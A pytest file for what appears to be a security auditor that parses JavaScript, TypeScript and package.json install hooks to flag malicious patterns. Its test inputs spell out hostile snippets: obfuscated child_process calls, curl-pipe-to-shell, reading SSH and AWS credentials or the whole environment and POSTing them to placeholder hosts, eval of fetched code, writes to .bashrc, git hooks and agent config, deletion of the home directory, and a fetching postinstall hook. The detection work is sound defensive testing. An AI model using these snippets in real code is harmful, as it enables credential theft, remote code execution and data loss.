"""The JavaScript/TypeScript frontend: folding and taint inside one file, parsed with the
tree-sitter grammars."""

from __future__ import annotations

import base64

import pytest

from lemon_core.auditor_kit.capabilities import javascript, package_json
from lemon_core.auditor_kit.capabilities.model import (
    DECODE,
    DECODED,
    DESTRUCTION,
    DYNAMIC_EXEC,
    FETCHED,
    NETWORK_EGRESS,
    PERSISTENCE,
    SECRET,
    SECRET_READ,
    UNRESOLVED,
    Fact,
)


def facts(src: str, path: str = "t.js") -> dict[str, list[Fact]]:
    found = javascript.analyse(path, src)
    assert found.parsed, found.error
    out: dict[str, list[Fact]] = {}
    for fact in found.facts:
        out.setdefault(fact.kind, []).append(fact)
    return out


def kinds(fact: Fact) -> set[str]:
    return {s.kind for s in fact.carries}


# -- modules, folding, evasions ---------------------------------------------------------------


def test_computed_require_is_folded_and_marked_hidden() -> None:
    found = facts("const cp = require('child' + '_process');\n"
                  "cp.execSync(`cu${'rl'} https://x.example/a`);\n")
    run = next(f for f in found[DYNAMIC_EXEC] if f.callee.endswith("execSync"))
    assert run.value == "curl https://x.example/a"
    assert run.hidden
    assert found[NETWORK_EGRESS][0].value == "https://x.example/a"


def test_a_require_of_a_name_chosen_at_run_time_is_unresolved() -> None:
    found = facts("const m = require(process.argv[2]);\nm.run();\n")
    assert found[UNRESOLVED][0].value == "require(…)"


@pytest.mark.parametrize("src", [
    "import { execSync as run } from 'node:child_process';\nrun('gh auth token');\n",
    "import * as cp from 'child_process';\ncp.execSync('gh auth token');\n",
    "const { execSync } = require('child_process');\nexecSync('gh auth token');\n",
    "const cp = await import('child_process');\ncp.execSync('gh auth token');\n",
])
def test_imports_in_every_form_resolve_the_module(src: str) -> None:
    found = facts(src, "t.mjs")
    assert found[SECRET_READ][0].detail == "command"
    assert any(f.value == "gh auth token" for f in found[DYNAMIC_EXEC])


def test_const_bindings_and_template_literals_fold() -> None:
    found = facts("const HOST = 'collect' + '.example';\nconst P = '/k';\n"
                  "fetch(`https://${HOST}${P}`);\n")
    assert found[NETWORK_EGRESS][0].value == "https://collect.example/k"


def test_string_from_char_code_is_decoded_data() -> None:
    codes = ", ".join(str(ord(c)) for c in "whoami")
    found = facts(f"const s = String.fromCharCode({codes});\neval(s);\n")
    run = found[DYNAMIC_EXEC][0]
    assert run.value == "whoami"
    assert DECODED in kinds(run)


def test_buffer_from_base64_and_hex_and_atob_decode() -> None:
    b64 = base64.b64encode(b"console.log(1)").decode()
    for expr in (f"Buffer.from('{b64}', 'base64').toString()", f"atob('{b64}')",
                 f"Buffer.from('{b'console.log(1)'.hex()}', 'hex').toString()"):
        found = facts(f"const code = {expr};\nnew Function(code)();\n")
        assert found[DECODE][0].value.endswith("console.log(1)")
        assert found[DYNAMIC_EXEC][0].value == "console.log(1)"
        assert DECODED in kinds(found[DYNAMIC_EXEC][0])


def test_reversed_text_is_decoded_data() -> None:
    found = facts("const vm = require('vm');\n"
                  "vm.runInThisContext(')1(gol.elosnoc'.split('').reverse().join(''));\n")
    run = found[DYNAMIC_EXEC][0]
    assert run.value == "console.log(1)"
    assert DECODED in kinds(run)


def test_a_global_reached_by_a_built_key_is_hidden() -> None:
    found = facts("globalThis['ev' + 'al'](process.argv[2]);\n")
    assert found[DYNAMIC_EXEC][0].hidden


def test_eval_of_a_plain_literal_is_not_a_fact() -> None:
    assert DYNAMIC_EXEC not in facts("eval('1 + 2');\nnew Function('return this')();\n")


# -- sinks ------------------------------------------------------------------------------------


def test_credential_stores_read_with_fs_are_secrets() -> None:
    found = facts("const fs = require('fs'), os = require('os'), path = require('path');\n"
                  "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\n"
                  "fs.promises.readFile(os.homedir() + '/.aws/credentials');\n")
    assert [f.value for f in found[SECRET_READ]] == ["~/.ssh/id_rsa", "~/.aws/credentials"]


def test_process_env_whole_or_secret_named() -> None:
    found = facts("fetch('https://x.example', {method: 'POST', body: JSON.stringify("
                  "{...process.env})});\n")
    assert {s.label for s in found[NETWORK_EGRESS][0].carries} == {"the whole environment"}
    found = facts("const t = process.env.GITHUB_TOKEN;\nconst u = process.env['HOME'];\n")
    assert [f.value for f in found[SECRET_READ]] == ["$GITHUB_TOKEN"]


@pytest.mark.parametrize(("call", "detail"), [
    ("fetch(u)", "http"),
    ("require('https').request({hostname: 'x.example', path: '/a'})", "http"),
    ("require('http').get(u)", "http"),
    ("require('axios').post(u, {})", "http"),
    ("require('net').connect(443, 'x.example')", "socket"),
    ("require('dns').resolve(u)", "dns"),
])
def test_network_sinks(call: str, detail: str) -> None:
    found = facts(f"const u = 'https://x.example/a';\n{call};\n")
    assert found[NETWORK_EGRESS][0].detail == detail


def test_child_process_spawn_with_argument_list() -> None:
    found = facts("const { spawn } = require('child_process');\n"
                  "spawn('bash', ['-c', 'curl https://x.example | sh']);\n")
    assert any(f.kind == DYNAMIC_EXEC and f.value.startswith("bash -c") for f in
               found[DYNAMIC_EXEC])


def test_writes_to_persistence_paths() -> None:
    found = facts("const fs = require('fs'); const os = require('os');\n"
                  "fs.appendFileSync(os.homedir() + '/.bashrc', 'x');\n"
                  "fs.writeFileSync('.git/hooks/pre-commit', 'y');\n"
                  "fs.writeFileSync(`${os.homedir()}/.claude/settings.json`, '{}');\n")
    assert sorted(f.detail for f in found[PERSISTENCE]) == ["agent-config", "git-hook", "rc"]


def test_recursive_delete_of_home() -> None:
    found = facts("const fs = require('fs'); const os = require('os');\n"
                  "fs.rmSync(os.homedir(), { recursive: true, force: true });\n")
    assert found[DESTRUCTION][0].value == "~"


# -- flows inside a file ----------------------------------------------------------------------


def test_a_credential_command_output_reaches_fetch_through_a_callback() -> None:
    found = facts("const { exec } = require('child_process');\n"
                  "exec('gh auth token', (err, out) => {\n"
                  "  fetch('https://c.example/t', { method: 'POST', body: out });\n"
                  "});\n")
    assert SECRET in kinds(found[NETWORK_EGRESS][0])


def test_a_fetched_body_reaches_vm_through_event_callbacks() -> None:
    found = facts("const https = require('https'), vm = require('vm');\n"
                  "https.get('https://cdn.example/r.js', (res) => {\n"
                  "  let code = '';\n  res.on('data', (c) => (code += c));\n"
                  "  res.on('end', () => vm.runInThisContext(code));\n});\n")
    assert FETCHED in kinds(found[DYNAMIC_EXEC][0])


def test_a_secret_flows_through_functions_and_request_end() -> None:
    found = facts("const fs = require('fs');\n"
                  "function load() { return fs.readFileSync(require('os').homedir() + "
                  "'/.npmrc', 'utf8'); }\n"
                  "const req = require('https').request({ hostname: 'h.example' });\n"
                  "req.end(JSON.stringify({ k: load() }));\n")
    sends = [f for f in found[NETWORK_EGRESS] if SECRET in kinds(f)]
    assert sends and all(FETCHED not in kinds(f) for f in sends)


# -- TypeScript, malformed and bounded files ---------------------------------------------------


def test_typescript_types_do_not_stop_the_reading() -> None:
    src = ("import { readFileSync } from 'node:fs';\n"
           "interface Row { k: string }\n"
           "const home: string = process.env.HOME as string;\n"
           "const key = readFileSync(`${home}/.ssh/id_ed25519`, 'utf8')!;\n"
           "async function send(v: string): Promise<void> {\n"
           "  await fetch('https://x.example/u', { method: 'POST', body: v } satisfies "
           "RequestInit);\n}\n"
           "void send(key);\n")
    found = facts(src, "t.ts")
    assert found[SECRET_READ][0].value == "~/.ssh/id_ed25519"
    assert SECRET in kinds(found[NETWORK_EGRESS][0])
    tsx = facts("const A = () => <div onClick={() => eval(atob('YWxlcnQoMSk='))}>x</div>;\n",
                "t.tsx")
    assert DECODED in kinds(tsx[DYNAMIC_EXEC][0])


def test_a_malformed_file_is_read_as_far_as_it_goes_and_never_crashes() -> None:
    found = javascript.analyse("t.js", "const x = ;;; {{{ fetch('https://x.example/a'\n"
                                       "\x00\ud800 )))))\n")
    assert found.parsed


def test_an_oversized_file_is_left_to_the_line_rules() -> None:
    found = javascript.analyse("t.js", "x;" * (javascript.MAX_CHARS // 2 + 1))
    assert not found.parsed and "larger than" in (found.error or "")


def test_a_missing_grammar_falls_back_without_a_crash(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(javascript._LANGUAGES, "javascript", None)
    found = javascript.analyse("t.js", "eval(process.argv[2]);\n")
    assert not found.parsed and "grammar" in (found.error or "")


def test_deep_nesting_is_bounded() -> None:
    found = javascript.analyse("t.js", "x = " + "(" * 3000 + "1" + ")" * 3000 + ";\n")
    assert found.parsed


# -- package.json install hooks ---------------------------------------------------------------


def test_install_hooks_are_read_as_shell() -> None:
    text = ('{\n  "name": "x",\n  "scripts": {\n'
            '    "postinstall": "curl -s https://x.example/i.sh | sh",\n'
            '    "preinstall": "node scripts/check.js",\n'
            '    "test": "curl https://ignored.example | sh"\n  }\n}\n')
    found = package_json.hook_facts("package.json", text)
    assert found is not None
    assert any(f.kind == NETWORK_EGRESS and f.line == 4 for f in found.facts)
    assert not any("ignored" in (f.value or "") for f in found.facts)
    assert any(i.script == "scripts/check.js" for i in found.invocations)


def test_an_inline_node_hook_is_read_as_javascript() -> None:
    text = ('{"scripts": {"install": "node -e \\"require(\'https\').get(\'https://x.example/'
            'p\', r => r.on(\'data\', d => eval(String(d))))\\""}}')
    found = package_json.hook_facts("package.json", text)
    assert found is not None
    assert any(f.kind == DYNAMIC_EXEC and FETCHED in kinds(f) and f.path == "package.json"
               for f in found.facts)


def test_a_package_json_without_hooks_says_nothing() -> None:
    assert package_json.hook_facts("package.json", '{"scripts": {"build": "tsc"}}') is None
    assert package_json.hook_facts("package.json", "{not json") is None


def test_a_sink_handed_over_as_a_callback_runs_what_the_promise_yields() -> None:
    found = facts("fetch('https://x.example/p').then((r) => r.text()).then(eval);\n")
    assert FETCHED in kinds(found[DYNAMIC_EXEC][0])
    assert DYNAMIC_EXEC not in facts("[1, 2].map(Function);\n")


def test_downloaded_text_appended_to_a_start_up_file_carries_the_download() -> None:
    found = facts("import fs = require('fs');\nimport os from 'os';\n"
                  "const d = await (await fetch('https://y.example/q')).text();\n"
                  "fs.appendFileSync(os.homedir() + '/.zshrc', d);\n", "t.ts")
    assert FETCHED in kinds(found[PERSISTENCE][0])


def test_character_codes_in_a_loop_a_map_or_a_spread_fold() -> None:
    found = facts("const cp = require('child_process');\nlet s = '';\n"
                  "for (const c of [119, 104, 111, 97, 109, 105]) s += String.fromCharCode(c);\n"
                  "cp.execSync(s);\n"
                  "eval([99, 111, 110, 102].map((c) => String.fromCharCode(c ^ 0)).join(''));\n"
                  "eval(String.fromCharCode(...[108, 115, 32, 45]));\n")
    runs = {f.value: kinds(f) for f in found[DYNAMIC_EXEC]}
    assert runs["whoami"] == {DECODED}
    assert runs["conf"] == {DECODED}
    assert runs["ls -"] == {DECODED}
    labels = {s.label for f in found[DYNAMIC_EXEC] for s in f.carries}
    assert labels == {"character codes"}
